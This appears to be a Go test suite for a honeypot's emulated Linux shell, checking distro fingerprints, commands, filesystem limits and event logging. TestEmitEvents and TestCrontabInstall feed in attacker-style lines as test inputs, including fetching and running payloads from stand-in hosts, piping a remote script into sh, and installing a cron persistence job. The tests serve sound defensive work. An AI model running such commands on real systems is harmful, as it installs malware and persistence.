package shell

import (
	"fmt"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"decnet/internal/catalog"
)

// Test distros are built here, independent of the catalog's data.
var (
	testDebian = catalog.Distro{
		Slug: "debian", Display: "Debian GNU/Linux 12 (bookworm)", OSFamily: "linux",
		Kernel: "6.1.0-99-amd64", KernelBuild: "#1 SMP PREEMPT_DYNAMIC Debian 6.1.99-1 (2024-07-15)", Arch: "x86_64",
		OSRelease: "PRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\nNAME=\"Debian GNU/Linux\"\nVERSION_ID=\"12\"\nVERSION=\"12 (bookworm)\"\nVERSION_CODENAME=bookworm\nID=debian\n",
		Shell:     "/bin/bash",
	}
	testUbuntu = catalog.Distro{
		Slug: "ubuntu22", Display: "Ubuntu 22.04.4 LTS", OSFamily: "linux",
		Kernel: "5.15.0-999-generic", KernelBuild: "#126-Ubuntu SMP Mon Jul 1 10:14:24 UTC 2024", Arch: "x86_64",
		OSRelease: "PRETTY_NAME=\"Ubuntu 22.04.4 LTS\"\nNAME=\"Ubuntu\"\nVERSION_ID=\"22.04\"\nVERSION=\"22.04.4 LTS (Jammy Jellyfish)\"\nVERSION_CODENAME=jammy\nID=ubuntu\nID_LIKE=debian\n",
		Shell:     "/bin/bash",
	}
	testRocky = catalog.Distro{
		Slug: "rocky9", Display: "Rocky Linux 9.4 (Blue Onyx)", OSFamily: "linux",
		Kernel: "5.14.0-427.22.1.el9_4.x86_64", KernelBuild: "#1 SMP PREEMPT_DYNAMIC Wed Jun 26 19:17:35 UTC 2024", Arch: "x86_64",
		OSRelease: "NAME=\"Rocky Linux\"\nVERSION=\"9.4 (Blue Onyx)\"\nID=\"rocky\"\nID_LIKE=\"rhel centos fedora\"\nVERSION_ID=\"9.4\"\nPRETTY_NAME=\"Rocky Linux 9.4 (Blue Onyx)\"\n",
		Shell:     "/bin/bash",
	}
	testAlpine = catalog.Distro{
		Slug: "alpine", Display: "Alpine Linux v3.19", OSFamily: "linux",
		Kernel: "6.6.32-0-lts", KernelBuild: "#1-Alpine SMP PREEMPT_DYNAMIC Thu, 30 May 2024 06:41:21 +0000", Arch: "x86_64",
		OSRelease: "NAME=\"Alpine Linux\"\nID=alpine\nVERSION_ID=3.19.2\nPRETTY_NAME=\"Alpine Linux v3.19\"\n",
		Shell:     "/bin/ash",
	}
	testKali = catalog.Distro{
		Slug: "kali", Display: "Kali GNU/Linux Rolling", OSFamily: "linux",
		Kernel: "6.8.11-amd64", KernelBuild: "#1 SMP PREEMPT_DYNAMIC Kali 6.8.11-1kali2 (2024-05-30)", Arch: "x86_64",
		OSRelease: "PRETTY_NAME=\"Kali GNU/Linux Rolling\"\nNAME=\"Kali GNU/Linux\"\nVERSION_ID=\"2024.2\"\nID=kali\nID_LIKE=debian\n",
		Shell:     "/usr/bin/zsh",
	}
	testDistros = []catalog.Distro{testDebian, testUbuntu, testRocky, testAlpine, testKali}
)

var fixedNow = time.Date(2024, 8, 14, 10, 30, 0, 0, time.UTC)

type recorder struct {
	mu     sync.Mutex
	events []struct {
		typ    string
		fields map[string]string
	}
}

func (r *recorder) emit(typ string, f map[string]string) {
	r.mu.Lock()
	defer r.mu.Unlock()
	cp := map[string]string{}
	for k, v := range f {
		cp[k] = v
	}
	r.events = append(r.events, struct {
		typ    string
		fields map[string]string
	}{typ, cp})
}

func (r *recorder) of(typ string) []map[string]string {
	r.mu.Lock()
	defer r.mu.Unlock()
	var out []map[string]string
	for _, e := range r.events {
		if e.typ == typ {
			out = append(out, e.fields)
		}
	}
	return out
}

func newTest(t testing.TB, d catalog.Distro, user string) (*Shell, *recorder) {
	t.Helper()
	rec := &recorder{}
	s := New(Options{Hostname: "web-prod-03.corp.local", User: user, Distro: d, IP: "10.20.30.40/24",
		MAC: "00:50:56:aa:bb:cc", ClientIP: "203.0.113.77", Services: []string{"ssh", "http", "mysql"},
		Emit: rec.emit, Now: func() time.Time { return fixedNow }})
	return s, rec
}

func run(t testing.TB, s *Shell, line string) string {
	t.Helper()
	out, _ := s.Exec(line)
	return out
}

func TestPrompt(t *testing.T) {
	cases := []struct {
		d    catalog.Distro
		user string
		want string
	}{
		{testDebian, "root", "root@web-prod-03:~# "},
		{testDebian, "deploy", "deploy@web-prod-03:~$ "},
		{testUbuntu, "ubuntu", "ubuntu@web-prod-03:~$ "},
		{testRocky, "root", "[root@web-prod-03 ~]# "},
		{testRocky, "rocky", "[rocky@web-prod-03 ~]$ "},
		{testAlpine, "root", "web-prod-03:~# "},
		{testKali, "root", "┌──(root㉿web-prod-03)-[~]\n└─# "},
		{testKali, "kali", "┌──(kali㉿web-prod-03)-[~]\n└─$ "},
	}
	for _, c := range cases {
		s, _ := newTest(t, c.d, c.user)
		if got := s.Prompt(); got != c.want {
			t.Errorf("%s/%s: prompt %q, want %q", c.d.Slug, c.user, got, c.want)
		}
	}
	s, _ := newTest(t, testDebian, "root")
	run(t, s, "cd /var/www/html")
	if got := s.Prompt(); got != "root@web-prod-03:/var/www/html# " {
		t.Errorf("prompt after cd = %q", got)
	}
	run(t, s, "mkdir ~/work; cd ~/work")
	if got := s.Prompt(); got != "root@web-prod-03:~/work# " {
		t.Errorf("prompt under home = %q", got)
	}
	r, _ := newTest(t, testRocky, "root")
	run(t, r, "cd /var/log")
	if got := r.Prompt(); got != "[root@web-prod-03 log]# " {
		t.Errorf("rocky prompt after cd = %q", got)
	}
}

func TestPersonaStory(t *testing.T) {
	for _, d := range testDistros {
		t.Run(d.Slug, func(t *testing.T) {
			s, _ := newTest(t, d, "root")
			checks := []struct{ cmd, want string }{
				{"uname -r", d.Kernel + "\n"},
				{"uname -m", d.Arch + "\n"},
				{"uname -n", "web-prod-03.corp.local\n"},
				{"uname", "Linux\n"},
				{"uname -s", "Linux\n"},
				{"uname -v", d.KernelBuild + "\n"},
				{"uname -s -v -n -r -m", "Linux web-prod-03.corp.local " + d.Kernel + " " + d.KernelBuild + " " + d.Arch + "\n"},
				{"cat /etc/os-release", d.OSRelease},
				{"cat /proc/sys/kernel/osrelease", d.Kernel + "\n"},
				{"hostname", "web-prod-03.corp.local\n"},
				{"hostname -I", "10.20.30.40 \n"},
				{"whoami", "root\n"},
				{"echo $SHELL", d.Shell + "\n"},
				{"echo $HOME", "/root\n"},
				{"pwd", "/root\n"},
			}
			for _, c := range checks {
				if got := run(t, s, c.cmd); got != c.want {
					t.Errorf("%q = %q, want %q", c.cmd, got, c.want)
				}
			}
			a := run(t, s, "uname -a")
			if !strings.HasPrefix(a, "Linux web-prod-03.corp.local "+d.Kernel+" "+d.KernelBuild+" "+d.Arch) {
				t.Errorf("uname -a = %q", a)
			}
			if d.Slug == "alpine" {
				if !strings.HasSuffix(a, " Linux\n") || strings.Contains(a, "GNU") {
					t.Errorf("busybox uname -a = %q", a)
				}
			} else if !strings.HasSuffix(a, " GNU/Linux\n") {
				t.Errorf("uname -a = %q", a)
			}
			if v := run(t, s, "cat /proc/version"); !strings.HasPrefix(v, "Linux version "+d.Kernel+" ") || !strings.Contains(v, d.KernelBuild) {
				t.Errorf("/proc/version = %q", v)
			}
			if got := run(t, s, "cat /etc/passwd | head -n 1"); !strings.HasPrefix(got, "root:x:0:0:") || !strings.HasSuffix(got, ":/root:"+d.Shell+"\n") {
				t.Errorf("passwd root line = %q", got)
			}
			if got := run(t, s, "ls /boot"); d.Slug != "alpine" && !strings.Contains(got, d.Kernel) {
				t.Errorf("/boot does not hold the kernel: %q", got)
			}
			if got := run(t, s, "cat /etc/issue"); got == "" {
				t.Error("/etc/issue is empty")
			}
			if got := run(t, s, "which "+pathBase(d.Shell)); got == "" {
				t.Errorf("the login shell %s is not in PATH", d.Shell)
			}
		})
	}
}

func TestUnameDistroDetails(t *testing.T) {
	u, _ := newTest(t, testUbuntu, "root")
	if got := run(t, u, "uname -a"); !strings.HasSuffix(got, " x86_64 x86_64 x86_64 GNU/Linux\n") {
		t.Errorf("ubuntu uname -a should print processor and platform: %q", got)
	}
	if got := run(t, u, "uname -p"); got != "x86_64\n" {
		t.Errorf("ubuntu uname -p = %q", got)
	}
	d, _ := newTest(t, testDebian, "root")
	if got := run(t, d, "uname -a"); !strings.HasSuffix(got, " x86_64 GNU/Linux\n") || strings.Contains(got, "x86_64 x86_64") {
		t.Errorf("debian uname -a = %q", got)
	}
	if got := run(t, d, "uname -p"); got != "unknown\n" {
		t.Errorf("debian uname -p = %q", got)
	}
	if got := run(t, d, "uname -z; echo $?"); got != "uname: invalid option -- 'z'\nTry 'uname --help' for more information.\n1\n" {
		t.Errorf("uname -z = %q", got)
	}
	if got := run(t, d, "uname --kernel-release"); got != testDebian.Kernel+"\n" {
		t.Errorf("uname --kernel-release = %q", got)
	}
}

type cmdCase struct {
	cmd      string
	contains []string
	absent   []string
	status   int // checked with "; echo $?" when >= 0
}

func checkCases(t *testing.T, s *Shell, cases []cmdCase) {
	t.Helper()
	for _, c := range cases {
		out := run(t, s, c.cmd)
		for _, w := range c.contains {
			if !strings.Contains(out, w) {
				t.Errorf("%q: output lacks %q:\n%s", c.cmd, w, out)
			}
		}
		for _, w := range c.absent {
			if strings.Contains(out, w) {
				t.Errorf("%q: output has %q:\n%s", c.cmd, w, out)
			}
		}
		if c.status >= 0 {
			if got := run(t, s, "echo $?"); got != fmt.Sprintf("%d\n", c.status) {
				t.Errorf("%q: status %q, want %d", c.cmd, strings.TrimSpace(got), c.status)
			}
		}
	}
}

func TestCommandsRoot(t *testing.T) {
	// The NIC carries the name the distro gives a VM's NIC (never a container's eth0).
	for _, tc := range []struct {
		d   catalog.Distro
		nic string
	}{{testDebian, "ens18"}, {testRocky, "ens192"}} {
		d, nic := tc.d, tc.nic
		t.Run(d.Slug, func(t *testing.T) {
			s, _ := newTest(t, d, "root")
			checkCases(t, s, []cmdCase{
				{"id", []string{"uid=0(root) gid=0(root) groups=0(root)"}, nil, 0},
				{"id -u", []string{"0\n"}, nil, 0},
				{"cat /etc/shadow", []string{"root:$"}, []string{"Permission denied"}, 0},
				{"cat /proc/cpuinfo", []string{"processor\t: 0", "model name\t: "}, nil, 0},
				{"cat /proc/meminfo", []string{"MemTotal:", "MemAvailable:"}, nil, 0},
				{"cat /nonexistent", []string{"cat: /nonexistent: No such file or directory"}, nil, 1},
				{"cat /etc", []string{"cat: /etc: Is a directory"}, nil, 1},
				{"ls -la", []string{"total ", " .bash_history\n", " .ssh\n", " .\n", " ..\n"}, nil, 0},
				{"ls /", []string{"bin\n", "etc\n", "root\n", "tmp\n", "var\n"}, nil, 0},
				{"ls -l /", []string{"bin -> usr/bin", "drwxrwxrwt", " tmp\n"}, nil, 0},
				{"ls /nope", []string{"ls: cannot access '/nope': No such file or directory"}, nil, 2},
				{"ls -l /etc/passwd", []string{"-rw-r--r--", " 1 root root ", " /etc/passwd\n"}, nil, 0},
				{"ls /var/www/html", []string{"index.html"}, nil, 0},
				{"ls /bin | head -n 400", []string{"ls\n", "cat\n", "wget\n"}, nil, 0},
				{"cd /etc && pwd", []string{"/etc\n"}, nil, 0},
				{"cd /nope", []string{"cd: /nope: No such file or directory"}, nil, 1},
				{"cd /etc/passwd", []string{"cd: /etc/passwd: Not a directory"}, nil, 1},
				{"cd; pwd", []string{"/root\n"}, nil, 0},
				{"echo $USER $HOME", []string{"root /root\n"}, nil, 0},
				{"echo \"$PATH\"", []string{"/usr/sbin"}, nil, 0},
				{"echo -e 'a\\tb\\x41'", []string{"a\tbA\n"}, nil, 0},
				{"echo -n hi", []string{"hi"}, []string{"\n"}, 0},
				{"w", []string{"USER     TTY      FROM", "203.0.113.77", "load average:"}, nil, 0},
				{"who", []string{"root     pts/0", "(203.0.113.77)"}, nil, 0},
				{"last", []string{"still logged in", "203.0.113.77", "system boot"}, nil, 0},
				{"uptime", []string{" up ", "load average:"}, nil, 0},
				{"free -m", []string{"total        used        free", "Mem:", "Swap:"}, nil, 0},
				{"free -h", []string{"Gi"}, nil, 0},
				{"df -h", []string{"Filesystem ", " Size  Used Avail Use% Mounted on\n", " /\n"}, nil, 0},
				{"ps aux", []string{"USER         PID %CPU", "sshd", "nginx", "mysqld", "ps aux"}, nil, 0},
				{"ps -ef", []string{"UID          PID    PPID", "sshd: root@pts/0"}, nil, 0},
				{"ps", []string{"PID TTY", "ps\n"}, nil, 0},
				{"top -bn1", []string{"top - ", "Tasks:", "MiB Mem"}, nil, 0},
				{"ip a", []string{"inet 10.20.30.40/24 brd 10.20.30.255 scope global " + nic, "link/ether 00:50:56:aa:bb:cc", "inet6 fe80::250:56ff:feaa:bbcc/64"}, nil, 0},
				{"ip addr", []string{"2: " + nic + ": <BROADCAST"}, nil, 0},
				{"ls /sys/class/net", []string{nic, "lo"}, nil, 0},
				{"ip link", []string{"link/ether 00:50:56:aa:bb:cc"}, nil, 0},
				{"ip r", []string{"default via 10.20.30.1 dev " + nic, "10.20.30.0/24 dev " + nic}, nil, 0},
				{"route -n", []string{"0 " + nic + "\n"}, nil, 0},
				{"ifconfig", []string{"inet 10.20.30.40  netmask 255.255.255.0  broadcast 10.20.30.255", "ether 00:50:56:aa:bb:cc"}, nil, 0},
				{"hostname", []string{"web-prod-03.corp.local\n"}, nil, 0},
				{"env", []string{"HOME=/root", "USER=root", "SSH_CLIENT=203.0.113.77 "}, nil, 0},
				{"export FOO=bar; echo $FOO; env | grep FOO", []string{"bar\nFOO=bar\n"}, nil, 0},
				{"which ls wget", []string{"/usr/bin/ls\n", "/usr/bin/wget\n"}, nil, 0},
				{"which nosuchthing", nil, []string{"/nosuchthing"}, 1},
				{"nproc", []string{"\n"}, nil, 0},
				{"lscpu", []string{"Architecture:            x86_64", "Model name:"}, nil, 0},
				{"crontab -l", []string{"no crontab for root"}, nil, 1},
				{"systemctl status ssh", []string{"active (running)"}, nil, 0},
				{"systemctl status nosuch", []string{"Unit nosuch.service could not be found."}, nil, 4},
				{"service nginx status", []string{"nginx.service", "active (running)"}, nil, 0},
				{"sudo id", []string{"uid=0(root)"}, nil, 0},
				{"nosuchcmd --flag", []string{"bash: nosuchcmd: command not found\n"}, nil, 127},
				{"history | tail -n 1", []string{"history | tail -n 1"}, nil, 0},
				{"true && echo yes || echo no", []string{"yes\n"}, []string{"no"}, 0},
				{"false && echo yes || echo no", []string{"no\n"}, []string{"yes"}, 0},
				{"false; echo $?", []string{"1\n"}, nil, 0},
				{"false || false && echo x", nil, []string{"x"}, 1},
				{"echo a; echo b", []string{"a\nb\n"}, nil, 0},
				{"cat /etc/passwd | grep '^root:' | wc -l", []string{"1\n"}, nil, 0},
				{"echo $(whoami)@`hostname -s`", []string{"root@web-prod-03\n"}, nil, 0},
				{"echo $((2+3*4))", []string{"14\n"}, nil, 0},
				{"echo ${NOPE:-dflt}", []string{"dflt\n"}, nil, 0},
				{"echo 'single $HOME' \"double $HOME\"", []string{"single $HOME double /root\n"}, nil, 0},
				{"ls /etc/*.conf | head -n 1", []string{"/etc/resolv.conf"}, nil, 0},
				{"echo 'ZWNobyBoaQ==' | base64 -d", []string{"echo hi"}, nil, 0},
				{"echo 'echo from-pipe' | sh", []string{"from-pipe\n"}, nil, 0},
				{"sh -c 'echo in-sub'", []string{"in-sub\n"}, nil, 0},
				{"echo \"unterminated", []string{"unexpected EOF while looking for matching `\"'"}, nil, 2},
				{"; ls", []string{"syntax error near unexpected token `;'"}, nil, 2},
				{"find /opt -name '*.sh'", []string{"/opt/scripts/backup.sh\n"}, nil, 0},
				{"md5sum /etc/hostname", []string{"  /etc/hostname\n"}, nil, 0},
				{"date +%Y", []string{"2024\n"}, nil, 0},
				{"ss -tlnp", []string{"0.0.0.0:22", "0.0.0.0:80", "0.0.0.0:3306"}, nil, 0},
				{"netstat -tlnp", []string{"LISTEN", ":3306"}, nil, 0},
			})
		})
	}
}

func TestCommandsUser(t *testing.T) {
	for _, d := range []catalog.Distro{testUbuntu, testAlpine} {
		t.Run(d.Slug, func(t *testing.T) {
			s, _ := newTest(t, d, "deploy")
			nf := "bash: nosuch: command not found"
			if d.Slug == "alpine" {
				nf = "-ash: nosuch: not found"
			}
			checkCases(t, s, []cmdCase{
				{"whoami", []string{"deploy\n"}, nil, 0},
				{"pwd", []string{"/home/deploy\n"}, nil, 0},
				{"echo $HOME", []string{"/home/deploy\n"}, nil, 0},
				{"id", []string{"uid=1001(deploy) gid=1001(deploy)"}, nil, 0},
				{"cat /etc/shadow", []string{"cat: /etc/shadow: Permission denied\n"}, []string{"root:$"}, 1},
				{"cat /etc/passwd", []string{"root:x:0:0:", "deploy:x:1001:1001:"}, nil, 0},
				{"ls /root", []string{"ls: cannot open directory '/root': Permission denied"}, nil, 2},
				{"cd /root", []string{"cd: /root: Permission denied"}, nil, 1},
				{"touch /etc/evil", []string{"touch: cannot touch '/etc/evil': Permission denied"}, nil, 1},
				{"touch /tmp/ok && ls /tmp", []string{"ok\n"}, nil, 0},
				{"sudo id", []string{"sudo: a terminal is required to read the password"}, []string{"uid=0"}, 1},
				{"nosuch", []string{nf}, nil, 127},
			})
		})
	}
}

func TestDistroSpecificCommands(t *testing.T) {
	r, _ := newTest(t, testRocky, "root")
	checkCases(t, r, []cmdCase{
		{"apt-get install x", []string{"bash: apt-get: command not found"}, nil, 127},
		{"cat /etc/redhat-release", []string{"Rocky Linux release 9.4 (Blue Onyx)"}, nil, 0},
		{"which dnf", []string{"/usr/bin/dnf"}, nil, 0},
	})
	a, _ := newTest(t, testAlpine, "root")
	checkCases(t, a, []cmdCase{
		{"bash", []string{"-ash: bash: not found"}, nil, 127},
		{"systemctl status", []string{"-ash: systemctl: not found"}, nil, 127},
		{"cat /etc/alpine-release", []string{"3.19.2\n"}, nil, 0},
		{"ls -l /bin/ls", []string{"/bin/ls -> /bin/busybox"}, nil, 0},
		{"wget http://x.example/a", []string{"wget: bad address 'x.example'"}, nil, 1},
	})
	k, _ := newTest(t, testKali, "root")
	checkCases(t, k, []cmdCase{
		{"nosuch", []string{"zsh: command not found: nosuch"}, nil, 127},
	})
	u, _ := newTest(t, testUbuntu, "root")
	checkCases(t, u, []cmdCase{
		{"cat /etc/lsb-release", []string{"DISTRIB_RELEASE=22.04", "DISTRIB_CODENAME=jammy"}, nil, 0},
		{"lsb_release -a", []string{"Description:\tUbuntu 22.04.4 LTS", "Codename:\tjammy"}, nil, 0},
		{"apt update", []string{"Temporary failure resolving 'archive.ubuntu.com'"}, nil, 0},
	})
}

func TestEmitEvents(t *testing.T) {
	s, rec := newTest(t, testDebian, "root")
	lines := []string{
		"uname -a",
		"cd /tmp; wget http://198.51.100.7/bins/x86 -O x86; chmod +x x86; ./x86",
		"curl -fsSL https://evil.example.com/install.sh | sh",
		"tftp -g -r mips 198.51.100.8",
		"busybox wget http://198.51.100.9/b",
		"   ",
	}
	for _, l := range lines {
		s.Exec(l)
	}
	cmds := rec.of("command")
	if len(cmds) != 5 {
		t.Fatalf("command events = %d (%v), want 5 (blank lines are not commands)", len(cmds), cmds)
	}
	for i, l := range lines[:5] {
		if cmds[i]["command"] != l {
			t.Errorf("command event %d = %q, want %q", i, cmds[i]["command"], l)
		}
	}
	dl := rec.of("download_attempt")
	want := []struct{ url, tool string }{
		{"http://198.51.100.7/bins/x86", "wget"},
		{"https://evil.example.com/install.sh", "curl"},
		{"tftp://198.51.100.8/mips", "tftp"},
		{"http://198.51.100.9/b", "wget"},
	}
	if len(dl) != len(want) {
		t.Fatalf("download events = %v, want %v", dl, want)
	}
	for i, w := range want {
		if dl[i]["url"] != w.url || dl[i]["tool"] != w.tool {
			t.Errorf("download %d = %v, want url=%s tool=%s", i, dl[i], w.url, w.tool)
		}
	}
}

func TestDownloadOutput(t *testing.T) {
	s, _ := newTest(t, testDebian, "root")
	out := run(t, s, "wget http://evil.example.com/x.sh")
	for _, w := range []string{"--2024-08-14 10:30:00--  http://evil.example.com/x.sh", "Resolving evil.example.com (evil.example.com)... failed: Temporary failure in name resolution.", "wget: unable to resolve host address"} {
		if !strings.Contains(out, w) {
			t.Errorf("wget output lacks %q:\n%s", w, out)
		}
	}
	if got := run(t, s, "curl http://evil.example.com/x; echo $?"); got != "curl: (6) Could not resolve host: evil.example.com\n6\n" {
		t.Errorf("curl output = %q", got)
	}
	if got := run(t, s, "curl -s http://evil.example.com/x; echo $?"); got != "6\n" {
		t.Errorf("curl -s output = %q", got)
	}
	if got := run(t, s, "ls /root/x.sh 2>&1"); !strings.Contains(got, "No such file") {
		t.Errorf("a failed download created a file: %q", got)
	}
}

func TestFilesystemOverlay(t *testing.T) {
	s, _ := newTest(t, testDebian, "root")
	checkCases(t, s, []cmdCase{
		{"mkdir -p /tmp/a/b/c && ls /tmp/a/b", []string{"c\n"}, nil, 0},
		{"mkdir /tmp/a", []string{"mkdir: cannot create directory '/tmp/a': File exists"}, nil, 1},
		{"echo one > /tmp/a/f; echo two >> /tmp/a/f; cat /tmp/a/f", []string{"one\ntwo\n"}, nil, 0},
		{"cp /tmp/a/f /tmp/g && cat /tmp/g", []string{"one\ntwo\n"}, nil, 0},
		{"mv /tmp/g /tmp/h && cat /tmp/h && ls /tmp", []string{"one\ntwo\na\nh\n"}, nil, 0},
		{"cat /tmp/g", []string{"No such file or directory"}, nil, 1},
		{"chmod 755 /tmp/h && ls -l /tmp/h", []string{"-rwxr-xr-x 1 root root 8 "}, nil, 0},
		{"chmod +x /tmp/a/f && ls -l /tmp/a/f", []string{"-rwxr-xr-x"}, nil, 0},
		{"chmod u=rw,go= /tmp/a/f && ls -l /tmp/a/f", []string{"-rw------- "}, nil, 0},
		{"chmod zz /tmp/a/f", []string{"chmod: invalid mode: 'zz'"}, nil, 1},
		{"chown www-data:www-data /tmp/h && ls -l /tmp/h", []string{"www-data www-data"}, nil, 0},
		{"rm /tmp/a", []string{"rm: cannot remove '/tmp/a': Is a directory"}, nil, 1},
		{"rm -rf /tmp/a && ls /tmp", []string{"h\n"}, []string{"a\n"}, 0},
		{"rm -rf /", []string{"it is dangerous to operate recursively on '/'"}, nil, 1},
		{"touch /tmp/../tmp/./t1 && ls /tmp", []string{"t1\n"}, nil, 0},
		{"cd /tmp/../../../etc && pwd", []string{"/etc\n"}, nil, 0},
		{"echo x > /nonexistent/dir/f", []string{"No such file or directory"}, nil, 1},
		{"cp /bin/ls /tmp/myls && ls -l /tmp/myls", []string{"-rwxr-xr-x"}, nil, 0},
		{"printf '#!/bin/sh\\necho dropped-ran\\n' > /tmp/s.sh; chmod +x /tmp/s.sh; /tmp/s.sh", []string{"dropped-ran\n"}, nil, 0},
		{"echo x > /tmp/noexec; /tmp/noexec", []string{"/tmp/noexec: Permission denied"}, nil, 126},
		{"./nothere", []string{"./nothere: No such file or directory"}, nil, 127},
		{"ln -s /etc/passwd /tmp/pw && cat /tmp/pw | head -n 1", []string{"root:x:0:0"}, nil, 0},
	})
	// /proc cannot be written.
	checkCases(t, s, []cmdCase{{"rm /proc/cpuinfo", []string{"Operation not permitted"}, nil, 1}})
}

func TestOverlayBudget(t *testing.T) {
	s, _ := newTest(t, testDebian, "root")
	chunk := strings.Repeat("A", 60000)
	var last string
	for i := 0; i < 40; i++ {
		last = run(t, s, fmt.Sprintf("echo %s > /tmp/f%d", chunk, i))
	}
	if !strings.Contains(last, "No space left on device") {
		t.Errorf("writing past the overlay budget should fail, got %q", last)
	}
	if s.fs.usedBytes > maxOverlayBytes {
		t.Errorf("overlay used %d bytes, cap %d", s.fs.usedBytes, maxOverlayBytes)
	}
	// Freeing space makes room again.
	run(t, s, "rm -f /tmp/f*")
	if got := run(t, s, "echo small > /tmp/ok; cat /tmp/ok"); got != "small\n" {
		t.Errorf("after rm, write = %q", got)
	}
	for i := 0; i < maxOverlayNodes+10; i++ {
		s.fs.mkdir(fmt.Sprintf("/tmp/d%d", i), 0, 0)
	}
	if s.fs.usedNodes > maxOverlayNodes {
		t.Errorf("overlay holds %d nodes, cap %d", s.fs.usedNodes, maxOverlayNodes)
	}
	// Copying a big tree is bounded too.
	run(t, s, "rm -rf /tmp/*")
	for i := 0; i < 8; i++ {
		run(t, s, fmt.Sprintf("cp -r /usr /tmp/u%d", i))
	}
	if s.fs.usedNodes > maxOverlayNodes || s.fs.usedBytes > maxOverlayBytes {
		t.Errorf("cp -r exceeded the overlay: %d nodes %d bytes", s.fs.usedNodes, s.fs.usedBytes)
	}
}

func TestHistory(t *testing.T) {
	s, _ := newTest(t, testDebian, "root")
	for i := 0; i < maxHistory+50; i++ {
		s.Exec(fmt.Sprintf("echo %d", i))
	}
	if len(s.history) != maxHistory {
		t.Fatalf("history holds %d entries, cap %d", len(s.history), maxHistory)
	}
	out := run(t, s, "history 3")
	want := fmt.Sprintf("%5d  echo %d\n%5d  echo %d\n%5d  history 3\n", maxHistory-2, maxHistory+48, maxHistory-1, maxHistory+49, maxHistory)
	if out != want {
		t.Errorf("history 3 = %q, want %q", out, want)
	}
	run(t, s, "history -c")
	if got := run(t, s, "history"); got != "    1  history\n" {
		t.Errorf("after history -c: %q", got)
	}
}

func TestExitAndLogout(t *testing.T) {
	for _, cmd := range []string{"exit", "logout", "echo bye; exit 3", "exit 0 && echo never"} {
		s, _ := newTest(t, testDebian, "root")
		out, exit := s.Exec(cmd)
		if !exit {
			t.Errorf("%q did not end the session", cmd)
		}
		if strings.Contains(out, "never") {
			t.Errorf("%q ran commands after exit: %q", cmd, out)
		}
		if out2, exit2 := s.Exec("id"); out2 != "" || !exit2 {
			t.Errorf("commands after exit still run: %q", out2)
		}
	}
	s, _ := newTest(t, testDebian, "root")
	if _, exit := s.Exec("echo x | exit"); exit {
		t.Error("exit inside a pipeline ended the session")
	}
}

func TestCrontabInstall(t *testing.T) {
	s, rec := newTest(t, testDebian, "root")
	run(t, s, `(crontab -l 2>/dev/null; echo "* * * * * /tmp/.x/bot") | crontab -`)
	if got := run(t, s, "crontab -l"); got != "* * * * * /tmp/.x/bot\n" {
		t.Errorf("crontab -l after install = %q", got)
	}
	found := false
	for _, e := range rec.of("command") {
		if strings.Contains(e["crontab"], "/tmp/.x/bot") {
			found = true
		}
	}
	if !found {
		t.Error("installing a crontab was not reported")
	}
}

func TestDeterministicPerDecky(t *testing.T) {
	a, _ := newTest(t, testDebian, "root")
	b, _ := newTest(t, testDebian, "root")
	for _, cmd := range []string{"free -m", "nproc", "cat /proc/cpuinfo", "ip a", "df -h", "cat /etc/shadow", "uptime", "ps aux"} {
		if x, y := run(t, a, cmd), run(t, b, cmd); x != y {
			t.Errorf("%q differs between two sessions on one decky:\n%s\n---\n%s", cmd, x, y)
		}
	}
	c := New(Options{Hostname: "other-host", User: "root", Distro: testDebian, IP: "10.20.30.41",
		Now: func() time.Time { return fixedNow }})
	if run(t, a, "cat /etc/machine-id") == run(t, c, "cat /etc/machine-id") {
		t.Error("two deckies share a machine-id")
	}
}

func TestZeroOptions(t *testing.T) {
	s := New(Options{})
	if p := s.Prompt(); p != "root@localhost:~# " {
		t.Errorf("zero-value prompt = %q", p)
	}
	if got := run(t, s, "uname -r"); got != defaultKernel+"\n" {
		t.Errorf("zero-value uname -r = %q", got)
	}
	if got := run(t, s, "ip a"); !regexp.MustCompile(`inet \d+\.\d+\.\d+\.\d+/24`).MatchString(got) {
		t.Errorf("zero-value ip a = %q", got)
	}
}

func TestLineAndOutputBounds(t *testing.T) {
	s, _ := newTest(t, testDebian, "root")
	out, _ := s.Exec("yes")
	if len(out) > maxOutput {
		t.Errorf("yes produced %d bytes", len(out))
	}
	out, _ = s.Exec("seq 1 100000000")
	if len(out) > maxOutput {
		t.Errorf("seq produced %d bytes", len(out))
	}
	long := strings.Repeat("echo a;", maxLineLen) // far longer than the line limit
	out, _ = s.Exec(long)
	if len(out) > maxOutput || strings.Count(out, "a\n") > maxSteps {
		t.Errorf("a huge line produced %d bytes", len(out))
	}
	nested := strings.Repeat("$(echo ", 50) + "x" + strings.Repeat(")", 50)
	s.Exec("echo " + nested) // must terminate; depth is bounded
	bomb := "echo " + strings.Repeat("$(cat /proc/cpuinfo)", 200)
	out, _ = s.Exec(bomb)
	if len(out) > maxOutput {
		t.Errorf("substitution bomb produced %d bytes", len(out))
	}
}
